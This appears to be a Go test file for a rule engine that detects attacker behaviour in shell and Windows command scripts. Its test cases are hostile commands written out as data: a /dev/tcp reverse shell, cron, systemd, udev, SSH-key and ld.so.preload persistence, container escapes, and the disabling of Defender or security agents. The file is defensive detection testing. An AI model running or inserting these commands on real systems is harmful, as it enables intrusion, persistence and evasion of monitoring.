package behaviour_test

import (
	"strings"
	"testing"

	"lamproom/format/commandline"
	"lamproom/observation"
	"lamproom/rule/behaviour"
	content "lamproom/rules/behaviour"
)

// matches follows a script and returns the ids of the rules that fit.
func matches(t testing.TB, s *behaviour.Set, script, shell string) map[string]string {
	t.Helper()
	trace := commandline.Script([]byte(script+"\n"), nil)
	if shell == "cmd" {
		trace = commandline.Batch([]byte(script+"\r\n"), nil)
	}
	found := map[string]string{}
	note := func(m behaviour.Match) {
		if had, ok := found[m.ID]; ok && had != m.Name {
			found[m.ID] = had + ", " + m.Name
			return
		}
		found[m.ID] = m.Name
	}
	for _, c := range trace.Commands {
		cl := observation.CommandLine{Output: c.Output, PipedTo: c.PipedTo}
		for _, a := range c.Argv {
			cl.Argv = append(cl.Argv, observation.Value{Text: a.Text})
		}
		for _, m := range s.Command(cl, behaviour.Joined(cl)) {
			note(m)
		}
	}
	for _, d := range trace.Documents {
		for _, m := range s.Written(observation.Written{Path: d.Name, Text: observation.Value{Text: string(d.Text)}, Append: d.Append}) {
			note(m)
		}
	}
	return found
}

func load(t testing.TB) *behaviour.Set {
	t.Helper()
	s, err := behaviour.Load(content.Files, ".")
	if err != nil {
		t.Fatal(err)
	}
	return s
}

func TestRulesFitTheirOwnExamples(t *testing.T) {
	s := load(t)
	ids := map[string]bool{}
	for _, r := range s.Rules {
		t.Run(r.ID, func(t *testing.T) {
			if ids[r.ID] {
				t.Error("the id is used twice")
			}
			ids[r.ID] = true
			if len(r.Yes) == 0 || len(r.No) == 0 {
				t.Error("want examples of both kinds")
			}
			for _, e := range r.Yes {
				if _, ok := matches(t, s, e, r.Shell)[r.ID]; !ok {
					t.Errorf("does not fit: %s", e)
				}
			}
			for _, e := range r.No {
				if name, ok := matches(t, s, e, r.Shell)[r.ID]; ok {
					t.Errorf("fits (%q): %s", name, e)
				}
			}
			for _, sev := range []string{r.Severity, r.Beside} {
				if !strings.Contains(" quiet info low medium high critical ", " "+sev+" ") {
					t.Errorf("severity %q is none", sev)
				}
			}
			for _, a := range r.Techniques {
				if len(a) < 5 || a[0] != 'T' {
					t.Errorf("technique %q is none", a)
				}
			}
		})
	}
}

// The name of what was done to is what somebody who cleans up needs.
func TestNames(t *testing.T) {
	s := load(t)
	for _, c := range []struct{ script, rule, name string }{
		{"systemctl enable --now backup.service", "persistence.systemd", "backup.service"},
		{"echo '[Service]' > /etc/systemd/system/backup.service", "persistence.systemd", "backup.service"},
		{"echo '* * * * * root x' > /etc/cron.d/apache", "persistence.cron", "/etc/cron.d/apache"},
		{"echo '* * * * * x' | crontab -", "persistence.cron", "crontab -"},
		{"echo k >> /root/.ssh/authorized_keys", "persistence.ssh-key", "/root/.ssh/authorized_keys"},
		{"useradd -m -s /bin/bash ghost", "persistence.account", "ghost"},
		{"chattr +ai /root/.ssh/authorized_keys", "concealment.immutable", "/root/.ssh/authorized_keys"},
		{"systemctl stop aliyun.service", "tampering.protection", "aliyun.service"},
		{"bash -i >& /dev/tcp/192.0.2.1/4444 0>&1", "callback.shell", "192.0.2.1:4444"},
		{`echo "/var/tmp/.x/k &" >> ~/.bashrc`, "persistence.profile", "~/.bashrc"},
		{`echo "/var/tmp/.x/k &" >> /root/.bashrc`, "persistence.profile", "/root/.bashrc"},
		{`echo 'RUN+="/var/tmp/.x/r"' > /etc/udev/rules.d/75-x.rules`, "persistence.udev", "/etc/udev/rules.d/75-x.rules"},
		{"chattr +ia /etc/a.conf /var/tmp/.x/kthreadd", "concealment.immutable", "/etc/a.conf, /var/tmp/.x/kthreadd"},
		{"echo /usr/local/lib/libs.so > /etc/ld.so.preload", "persistence.ld-preload", "/etc/ld.so.preload, /usr/local/lib/libs.so"},
		{`(crontab -l 2>/dev/null; echo "*/5 * * * * /var/tmp/.x/kthreadd") | crontab -`, "persistence.cron", "crontab -"},
		{"docker -H tcp://192.0.2.4:2375 run -d --privileged -v /:/mnt alpine chroot /mnt sh", "container.escape", "alpine, chroot /mnt sh"},
		{"docker run -d evil/img:1 -o x", "container.run", "evil/img:1"},
		{"docker run -d --name web --restart always --privileged evil/img:1", "container.run", "web"},
		{"nsenter --target 1 --mount -- sh", "container.escape", "nsenter --target 1 --mount -- sh"},
		{"kubectl create -f ds.yaml", "container.run", "ds.yaml"},
		{"ulimit -n 65535", "tuning.limits", "ulimit -n 65535"},
	} {
		if got := matches(t, s, c.script, "")[c.rule]; got != c.name {
			t.Errorf("%s: name %q, want %q", c.script, got, c.name)
		}
	}
}

func TestNamesOfWindows(t *testing.T) {
	s := load(t)
	for _, c := range []struct{ script, rule, name string }{
		{`copy x.lnk "%APPDATA%\Microsoft\Windows\Start Menu\Programs\Startup\x.lnk"`, "persistence.startup-folder", `%APPDATA%\Microsoft\Windows\Start Menu\Programs\Startup\x.lnk`},
		{`reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v Upd /d C:\x\a.exe /f`, "persistence.run-key", `HKCU\Software\Microsoft\Windows\CurrentVersion\Run\Upd`},
		{"powershell Set-MpPreference -DisableRealtimeMonitoring $true", "tampering.protection", "DisableRealtimeMonitoring"},
		{"powershell Set-MpPreference -DisableRealtimeMonitoring $false", "tampering.protection", ""},
		{"powershell Set-MpPreference -DisableRealtimeMonitoring:$false", "tampering.protection", ""},
		{"powershell Set-MpPreference -DisableRealtimeMonitoring 0", "tampering.protection", ""},
	} {
		if got := matches(t, s, c.script, "cmd")[c.rule]; got != c.name {
			t.Errorf("%s: name %q, want %q", c.script, got, c.name)
		}
	}
}

func TestBadRulesAreRefused(t *testing.T) {
	for name, text := range map[string]string{
		"no condition":    "- {id: a.b, title: t, subject: file}",
		"unknown field":   "- {id: a.b, title: t, subject: file, wen: []}",
		"broken pattern":  "- {id: a.b, title: t, subject: file, when: [{program: x, args: '('}]}",
		"empty condition": "- {id: a.b, title: t, subject: file, when: [{args: x}]}",
	} {
		if _, err := behaviour.Load(oneFile(text), "r"); err == nil {
			t.Errorf("%s: loaded", name)
		}
	}
}

func FuzzMatch(f *testing.F) {
	s, err := behaviour.Load(content.Files, ".")
	if err != nil {
		f.Fatal(err)
	}
	for _, r := range s.Rules {
		for _, e := range append(r.Yes, r.No...) {
			f.Add(e)
		}
	}
	f.Fuzz(func(t *testing.T, script string) {
		for id := range matches(t, s, script, "") {
			if id == "" {
				t.Error("a match without a rule")
			}
		}
	})
}
